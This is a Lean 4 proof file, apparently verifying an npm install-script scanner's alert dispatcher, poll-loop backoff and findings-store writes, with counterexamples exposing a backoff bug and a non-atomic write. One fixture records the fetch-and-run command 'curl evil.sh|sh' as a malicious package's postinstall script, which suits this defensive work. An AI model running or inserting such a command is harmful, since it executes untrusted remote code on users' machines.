theorem countGithubCalls_append (a b : List SinkEvent) :
    countGithubCalls (a ++ b) = countGithubCalls a + countGithubCalls b := by
  unfold countGithubCalls
  rw [List.filterMap_append]
  exact List.length_append _ _

theorem countGithubCalls_flatMap_one (f : α → List SinkEvent) (l : List α)
    (h : ∀ x ∈ l, countGithubCalls (f x) = 1) :
    countGithubCalls (l.flatMap f) = l.length := by
  induction l with
  | nil => rfl
  | cons x xs ih =>
    rw [List.flatMap_cons, countGithubCalls_append, h x (List.mem_cons_self x xs),
      ih (fun y hy => h y (List.mem_cons_of_mem x hy))]
    simp only [List.length_cons]
    omega

theorem countGithubCalls_catchWarn_github (url t : String) (pc : Option String) (ok : Bool)
    (o r : String) (rest : List String) (hurl : urlPathSegments url = some (o :: r :: rest)) :
    countGithubCalls (catchWarn "GitHub" (createGitHubIssue url t pc ok)) = 1 := by
  unfold createGitHubIssue catchWarn
  rw [hurl]
  cases ok <;> rfl

theorem eventSink_mem_catchWarn (sinkName : String) (call : List SinkEvent × Except String Unit)
    (h : ∀ e ∈ call.1, eventSink e = sinkName) :
    ∀ e ∈ catchWarn sinkName call, eventSink e = sinkName := by
  intro e he
  rcases call with ⟨evs, r⟩
  cases r with
  | ok u => exact h e he
  | error msg =>
    rcases List.mem_append.1 he with h1 | h1
    · exact h e h1
    · simp at h1
      subst h1
      rfl

theorem eventSink_telegram (ok : Bool) :
    ∀ e ∈ (sendTelegramNotification ok).1, eventSink e = "Telegram" := by
  intro e he
  simp [sendTelegramNotification] at he
  subst he
  rfl

theorem eventSink_discord (ok : Bool) :
    ∀ e ∈ (sendDiscordNotification ok).1, eventSink e = "Discord" := by
  intro e he
  simp [sendDiscordNotification] at he
  subst he
  rfl

theorem eventSink_github (url t : String) (pc : Option String) (ok : Bool) :
    ∀ e ∈ (createGitHubIssue url t pc ok).1, eventSink e = "GitHub" := by
  intro e he
  unfold createGitHubIssue at he
  rcases hu : urlPathSegments url with _ | parts
  · rw [hu] at he
    simp at he
  rw [hu] at he
  rcases parts with _ | ⟨o, parts⟩
  · simp at he
  rcases parts with _ | ⟨r, rest⟩
  · simp at he
  simp at he
  subst he
  rfl

/-- The dispatcher's event trace for a non-empty batch, written out as the
three sink blocks. -/
theorem dispatcher_events_eq (cfg : SinkConfig) (pn lv : String) (prev : Option String)
    (alerts : List Alert) (pack : Packument) (net : NetBehavior)
    (h : ¬ alerts.isEmpty = true) :
    (sendCombinedScriptAlertNotifications cfg pn lv prev alerts pack net).events =
      (if (truthy cfg.telegramBotToken && truthy cfg.telegramChatId) = true then
        catchWarn "Telegram" (sendTelegramNotification net.telegramOk)
      else []) ++
      (if truthy cfg.discordWebhookUrl = true then
        catchWarn "Discord" (sendDiscordNotification net.discordOk)
      else []) ++
      (match repoUrlIfTruthy pack with
       | some url =>
         if truthy cfg.githubToken = true then
           alerts.enum.flatMap (fun p =>
             catchWarn "GitHub" (createGitHubIssue url p.2.scriptType
               (match p.2.action with
                | .changed => p.2.prevCmd
                | .added => none)
               (net.githubOk p.1)))
         else []
       | none => []) := by
  unfold sendCombinedScriptAlertNotifications
  rw [if_neg h]

/-- Every dispatcher event belongs to a sink whose configuration guard was
satisfied: an unconfigured sink contributes neither calls nor warnings. -/
theorem dispatcher_event_sinks (cfg : SinkConfig) (pn lv : String) (prev : Option String)
    (alerts : List Alert) (pack : Packument) (net : NetBehavior) :
    ∀ e ∈ (sendCombinedScriptAlertNotifications cfg pn lv prev alerts pack net).events,
      (eventSink e = "Telegram" ∧
        (truthy cfg.telegramBotToken && truthy cfg.telegramChatId) = true) ∨
      (eventSink e = "Discord" ∧ truthy cfg.discordWebhookUrl = true) ∨
      (eventSink e = "GitHub" ∧ truthy cfg.githubToken = true ∧
        repoUrlIfTruthy pack ≠ none) := by
  intro e he
  by_cases hemp : alerts.isEmpty
  · unfold sendCombinedScriptAlertNotifications at he
    rw [if_pos hemp] at he
    simp at he
  rw [dispatcher_events_eq cfg pn lv prev alerts pack net hemp] at he
  rcases List.mem_append.1 he with h1 | h1
  rcases List.mem_append.1 h1 with h2 | h2
  · by_cases htg : (truthy cfg.telegramBotToken && truthy cfg.telegramChatId) = true
    · rw [if_pos htg] at h2
      exact Or.inl ⟨eventSink_mem_catchWarn "Telegram" _ (eventSink_telegram _) e h2, htg⟩
    · rw [if_neg htg] at h2
      simp at h2
  · by_cases hdc : truthy cfg.discordWebhookUrl = true
    · rw [if_pos hdc] at h2
      exact Or.inr (Or.inl ⟨eventSink_mem_catchWarn "Discord" _ (eventSink_discord _) e h2, hdc⟩)
    · rw [if_neg hdc] at h2
      simp at h2
  · rcases hrepo : repoUrlIfTruthy pack with _ | url
    · simp only [hrepo] at h1
      simp at h1
    simp only [hrepo] at h1
    by_cases htok : truthy cfg.githubToken = true
    · rw [if_pos htok] at h1
      rcases List.mem_flatMap.1 h1 with ⟨p, _hp, hep⟩
      refine Or.inr (Or.inr ⟨?_, htok, by simp [hrepo]⟩)
      exact eventSink_mem_catchWarn "GitHub" _ (eventSink_github url p.2.scriptType _ _) e hep
    · rw [if_neg htok] at h1
      simp at h1

/-- Claim C7: sink failures are contained inside the dispatcher.  First, the
set of HTTP attempts is a function of the configuration, the batch and the
packument alone — no outcome (failure or timeout) of any sink call changes
what else is attempted.  Second, a sink whose credentials are not configured
contributes no event at all (no call, no warning): it is skipped silently.
Third, with GitHub configured and a parseable two-segment repository URL,
exactly one issue creation is attempted per alert of the batch, whatever
succeeds or fails. -/
theorem dispatcher_failure_isolation :
    (∀ (cfg : SinkConfig) (pn lv : String) (prev : Option String) (alerts : List Alert)
      (pack : Packument) (net net' : NetBehavior),
      attemptKinds (sendCombinedScriptAlertNotifications cfg pn lv prev alerts pack net).events =
        attemptKinds
          (sendCombinedScriptAlertNotifications cfg pn lv prev alerts pack net').events) ∧
    (∀ (cfg : SinkConfig) (pn lv : String) (prev : Option String) (alerts : List Alert)
      (pack : Packument) (net : NetBehavior),
      ∀ e ∈ (sendCombinedScriptAlertNotifications cfg pn lv prev alerts pack net).events,
        (eventSink e = "Telegram" →
          (truthy cfg.telegramBotToken && truthy cfg.telegramChatId) = true) ∧
        (eventSink e = "Discord" → truthy cfg.discordWebhookUrl = true) ∧
        (eventSink e = "GitHub" →
          truthy cfg.githubToken = true ∧ repoUrlIfTruthy pack ≠ none)) ∧
    (∀ (cfg : SinkConfig) (pn lv : String) (prev : Option String) (alerts : List Alert)
      (pack : Packument) (net : NetBehavior) (url o r : String) (rest : List String),
      truthy cfg.githubToken = true → repoUrlIfTruthy pack = some url →
      urlPathSegments url = some (o :: r :: rest) →
      countGithubCalls
          (sendCombinedScriptAlertNotifications cfg pn lv prev alerts pack net).events =
        (if alerts.isEmpty then 0 else alerts.length)) := by
  refine ⟨?_, ?_, ?_⟩
  · intro cfg pn lv prev alerts pack net net'
    by_cases hemp : alerts.isEmpty
    · unfold sendCombinedScriptAlertNotifications
      rw [if_pos hemp, if_pos hemp]
    rw [dispatcher_events_eq cfg pn lv prev alerts pack net hemp,
      dispatcher_events_eq cfg pn lv prev alerts pack net' hemp]
    rw [attemptKinds_append, attemptKinds_append, attemptKinds_append, attemptKinds_append]
    congr 1
    · congr 1
      · by_cases htg : (truthy cfg.telegramBotToken && truthy cfg.telegramChatId) = true
        · rw [if_pos htg, if_pos htg, attemptKinds_catchWarn_telegram,
            attemptKinds_catchWarn_telegram]
        · rw [if_neg htg, if_neg htg]
      · by_cases hdc : truthy cfg.discordWebhookUrl = true
        · rw [if_pos hdc, if_pos hdc, attemptKinds_catchWarn_discord,
            attemptKinds_catchWarn_discord]
        · rw [if_neg hdc, if_neg hdc]
    · rcases hrepo : repoUrlIfTruthy pack with _ | url
      · simp only [hrepo]
      simp only [hrepo]
      by_cases htok : truthy cfg.githubToken = true
      · rw [if_pos htok, if_pos htok, attemptKinds_flatMap, attemptKinds_flatMap]
        simp only [attemptKinds_catchWarn_github]
      · rw [if_neg htok, if_neg htok]
  · intro cfg pn lv prev alerts pack net e he
    have h := dispatcher_event_sinks cfg pn lv prev alerts pack net e he
    refine ⟨?_, ?_, ?_⟩ <;> intro hsink <;> rcases h with ⟨h1, h2⟩ | ⟨h1, h2⟩ | ⟨h1, h2⟩ <;>
      first
        | exact h2
        | (rw [hsink] at h1; exact absurd h1 (by decide))
  · intro cfg pn lv prev alerts pack net url o r rest htok hrepo hurl
    by_cases hemp : alerts.isEmpty
    · unfold sendCombinedScriptAlertNotifications
      rw [if_pos hemp, if_pos hemp]
      rfl
    rw [dispatcher_events_eq cfg pn lv prev alerts pack net hemp]
    rw [countGithubCalls_append, countGithubCalls_append]
    have htg0 : countGithubCalls (if (truthy cfg.telegramBotToken &&
        truthy cfg.telegramChatId) = true then
          catchWarn "Telegram" (sendTelegramNotification net.telegramOk) else []) = 0 := by
      by_cases hb : (truthy cfg.telegramBotToken && truthy cfg.telegramChatId) = true
      · rw [if_pos hb]
        cases net.telegramOk <;> rfl
      · rw [if_neg hb]
        rfl
    have hdc0 : countGithubCalls (if truthy cfg.discordWebhookUrl = true then
          catchWarn "Discord" (sendDiscordNotification net.discordOk) else []) = 0 := by
      by_cases hb : truthy cfg.discordWebhookUrl = true
      · rw [if_pos hb]
        cases net.discordOk <;> rfl
      · rw [if_neg hb]
        rfl
    rw [htg0, hdc0]
    simp only [hrepo]
    rw [if_pos htok]
    rw [countGithubCalls_flatMap_one _ _ (fun p _hp =>
      countGithubCalls_catchWarn_github url p.2.scriptType _ (net.githubOk p.1) o r rest hurl)]
    rw [if_neg hemp]
    simp [List.enum_length]

/-- Witness configuration for C7: only Discord configured. -/
def c7Config : SinkConfig :=
  ⟨none, none, some "https://discord.example/webhook", none⟩

theorem dispatcher_failure_isolation_witness :
    attemptKinds (sendCombinedScriptAlertNotifications c7Config "evil-pkg" "1.1.0"
        (some "1.0.0") c6Alerts c6Pack ⟨true, false, fun _ => false⟩).events =
      attemptKinds (sendCombinedScriptAlertNotifications c7Config "evil-pkg" "1.1.0"
        (some "1.0.0") c6Alerts c6Pack ⟨true, true, fun _ => true⟩).events ∧
    countGithubCalls (sendCombinedScriptAlertNotifications c6Config "evil-pkg" "1.1.0"
        (some "1.0.0") c6Alerts c6Pack ⟨false, false, fun _ => false⟩).events =
      (if c6Alerts.isEmpty then 0 else c6Alerts.length) :=
  ⟨dispatcher_failure_isolation.1 c7Config "evil-pkg" "1.1.0" (some "1.0.0") c6Alerts c6Pack
      ⟨true, false, fun _ => false⟩ ⟨true, true, fun _ => true⟩,
   dispatcher_failure_isolation.2.2 c6Config "evil-pkg" "1.1.0" (some "1.0.0") c6Alerts c6Pack
      ⟨false, false, fun _ => false⟩ "https://github.com/owner/repo.git" "owner" "repo.git" []
      (by decide) (by decide) (by decide)⟩

/-! ## Claim C8: the producer's backoff and cursor -/

/-- A response that parses as JSON but fails the shape check (`results`
missing or not an array). -/
def c8BadShape : Except String ChangesResponse :=
  .ok ⟨none, some (.num 1)⟩

/-- The producer state after one bad-shape poll from the initial backoff. -/
def c8Step1 : ProducerState × StepTrace :=
  producerStep 1500 ⟨.num 0, 1000⟩ c8BadShape

/-- Claim C8, counterexample: two consecutive malformed (shape-invalid)
responses are each retried after the base 1000 ms — the second delay is 1000
ms, not the doubled 2000 ms the claim requires for a consecutive failure —
because the code resets the backoff immediately after the fetch succeeds,
before validating the response shape. -/
theorem producer_backoff_not_doubled :
    c8Step1.2.delayMs = some 1000 ∧
    (producerStep 1500 c8Step1.1 c8BadShape).2.delayMs = some 1000 ∧
    some 1000 ≠ some (min (1000 * 2) 30000) := by
  refine ⟨by decide, by decide, by decide⟩

/-- Claim C8 (amended): the poll loop never terminates (every input has a
successor state) and behaves as follows.  A fetch-level failure — network
error, timeout, non-success status or unparseable body — leaves the cursor
unchanged, sleeps the current backoff and doubles it up to the 30 s cap.  A
response that parses but fails the shape check also leaves the cursor
unchanged, but sleeps the already-reset base 1 s and leaves the backoff at
2 s, so consecutive shape-invalid responses do not double the delay.  A
well-shaped response resets the backoff to 1 s, hands exactly the non-design
rows with string ids to the queue, advances the cursor to `last_seq` only
then, and sleeps the poll interval exactly when the batch was empty. -/
theorem producer_step_spec :
    (∀ (pollMs : Nat) (st : ProducerState) (msg : String),
      producerStep pollMs st (.error msg) =
        (⟨st.since, min (st.backoffMs * 2) 30000⟩, ⟨[], some st.backoffMs⟩)) ∧
    (∀ (pollMs : Nat) (st : ProducerState) (resp : ChangesResponse),
      resp.results = none ∨ resp.lastSeq = none →
      producerStep pollMs st (.ok resp) = (⟨st.since, 2000⟩, ⟨[], some 1000⟩)) ∧
    (∀ (pollMs : Nat) (st : ProducerState) (rows : List (Option ChangesRow)) (lastSeq : JsonSeq),
      (producerStep pollMs st (.ok ⟨some rows, some lastSeq⟩)).1 = ⟨lastSeq, 1000⟩ ∧
      (producerStep pollMs st (.ok ⟨some rows, some lastSeq⟩)).2.delayMs =
        (if rows.isEmpty then some pollMs else none) ∧
      ∀ n : String, n ∈ (producerStep pollMs st (.ok ⟨some rows, some lastSeq⟩)).2.queued ↔
        (some ⟨some n⟩ ∈ rows ∧ jsStartsWith "_design/" n = false)) := by
  refine ⟨fun pollMs st msg => rfl, ?_, ?_⟩
  · intro pollMs st resp h
    rcases resp with ⟨results, lastSeq⟩
    rcases h with h | h
    · simp only at h
      subst h
      rcases lastSeq with _ | ls <;> rfl
    · simp only at h
      subst h
      rcases results with _ | rs <;> rfl
  · intro pollMs st rows lastSeq
    refine ⟨rfl, rfl, ?_⟩
    intro n
    unfold producerStep
    simp only [List.mem_filterMap]
    constructor
    · rintro ⟨row?, hmem, hrow⟩
      rcases row? with _ | row
      · simp at hrow
      rcases row with ⟨id?⟩
      rcases id? with _ | name
      · simp at hrow
      by_cases hd : jsStartsWith "_design/" name = true
      · simp [hd] at hrow
      · simp only [hd, Bool.false_eq_true, if_false, if_neg] at hrow
        have : name = n := by
          by_cases hdd : jsStartsWith "_design/" name
          · exact absurd hdd hd
          · simpa [hdd] using hrow
        subst this
        exact ⟨hmem, by simpa using hd⟩
    · rintro ⟨hmem, hd⟩
      refine ⟨some ⟨some n⟩, hmem, ?_⟩
      simp [hd]

/-- Witness state and response for C8. -/
def c8GoodResp : ChangesResponse :=
  ⟨some [some ⟨some "left-pad"⟩, some ⟨some "_design/app"⟩, none], some (.num 7)⟩

theorem producer_step_spec_witness :
    producerStep 1500 ⟨.num 5, 4000⟩ (.error "HTTP 500") =
      (⟨.num 5, min (4000 * 2) 30000⟩, ⟨[], some 4000⟩) ∧
    producerStep 1500 ⟨.num 5, 4000⟩ (.ok ⟨none, some (.num 9)⟩) =
      (⟨.num 5, 2000⟩, ⟨[], some 1000⟩) ∧
    ("left-pad" ∈ (producerStep 1500 ⟨.num 5, 4000⟩ (.ok c8GoodResp)).2.queued ↔
      (some ⟨some "left-pad"⟩ ∈ c8GoodResp.results.getD [] ∧
        jsStartsWith "_design/" "left-pad" = false)) :=
  ⟨producer_step_spec.1 1500 ⟨.num 5, 4000⟩ "HTTP 500",
   producer_step_spec.2.1 1500 ⟨.num 5, 4000⟩ ⟨none, some (.num 9)⟩ (Or.inl rfl),
   producer_step_spec.2.2 1500 ⟨.num 5, 4000⟩ [some ⟨some "left-pad"⟩, some ⟨some "_design/app"⟩,
     none] (.num 7) |>.2.2 "left-pad"⟩

/-! ## Claim C9: durability of the store writes -/

/-- The store file before the write: the serialised empty array. -/
def c9Before : FsState :=
  fun q => if q = dbFilePath then some "[]" else none

/-- The serialised store after one finding is saved. -/
def c9NewContent : String :=
  encodeFindings [⟨"evil-pkg", "1.1.0", "postinstall", "curl evil.sh|sh", some "1.0.0",
    "2026-01-01T00:00:00.000Z"⟩]

/-- A state in which the store file holds only the first byte of the new
content — neither the old nor the new array, hence unparseable. -/
def c9Corrupt : FsState :=
  fun q => if q = dbFilePath then some "[" else none

/-- Claim C9, counterexample: `Db.write` performs one direct `fs.writeFile`
on the target (no temporary file, no rename), so a crash in the middle of
the write can leave the findings file holding a strict, unparseable fragment
of the new content — a corrupted state the claimed
write-to-temporary-then-rename discipline would make unreachable. -/
theorem dbWrite_crash_corrupts :
    crashResult c9Before (dbWrite dbFilePath c9NewContent) c9Corrupt ∧
    c9Corrupt dbFilePath = some "[" ∧
    some "[" ≠ c9Before dbFilePath ∧
    some "[" ≠ some c9NewContent ∧
    (dbWrite dbFilePath c9NewContent).length = 1 := by
  refine ⟨?_, rfl, by decide, by decide, rfl⟩
  have hmid : midOpState c9Before (.writeFile dbFilePath c9NewContent) c9Corrupt := by
    refine ⟨1, ?_⟩
    funext q
    by_cases h : q = dbFilePath
    · subst h
      simp only [c9Corrupt, c9Before, if_pos]
      decide
    · simp [c9Corrupt, c9Before, h]
  exact Or.inr (Or.inl hmid)

/-- Claim C9 (amended): `saveFinding` prepends the new record, keeping the
persisted array newest-first, and each store write is a single direct
`fs.writeFile` of the whole serialised array to the target path; its
reachable crash states are exactly the old content, any partial flush of the
new content, or the completed write — so a mid-write crash can corrupt the
file, and no temporary-file-and-rename step exists. -/
theorem saveFinding_spec :
    (∀ (f : Finding) (stored : List Finding), (saveFinding f stored).1 = f :: stored) ∧
    (∀ (f : Finding) (stored : List Finding),
      (saveFinding f stored).2 = [.writeFile dbFilePath (encodeFindings (f :: stored))]) ∧
    (∀ (path content : String) (init g : FsState),
      crashResult init (dbWrite path content) g ↔
        (g = init ∨
          (∃ n, g = fun q => if q = path then some (String.mk (content.data.take n)) else init q) ∨
          g = applyOp init (.writeFile path content))) := by
  refine ⟨fun f stored => rfl, fun f stored => rfl, ?_⟩
  intro path content init g
  unfold dbWrite crashResult
  simp only [crashResult, midOpState]

end NpmScan
